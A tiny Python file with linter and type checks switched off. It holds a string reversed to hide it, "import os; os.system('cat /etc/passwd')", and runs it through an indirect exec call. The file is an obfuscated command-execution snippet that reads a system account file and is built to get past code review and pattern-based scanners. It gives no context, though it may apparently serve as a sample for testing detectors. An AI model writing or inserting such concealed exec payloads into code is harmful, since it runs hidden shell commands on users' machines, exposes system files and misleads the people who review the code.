# ruff: noqa
# fmt: off
# mypy: ignore-errors
PAYLOAD = ")'dwssap/cte/ tac'(metsys.so ;so tropmi"
exec.__call__(PAYLOAD[::-1])
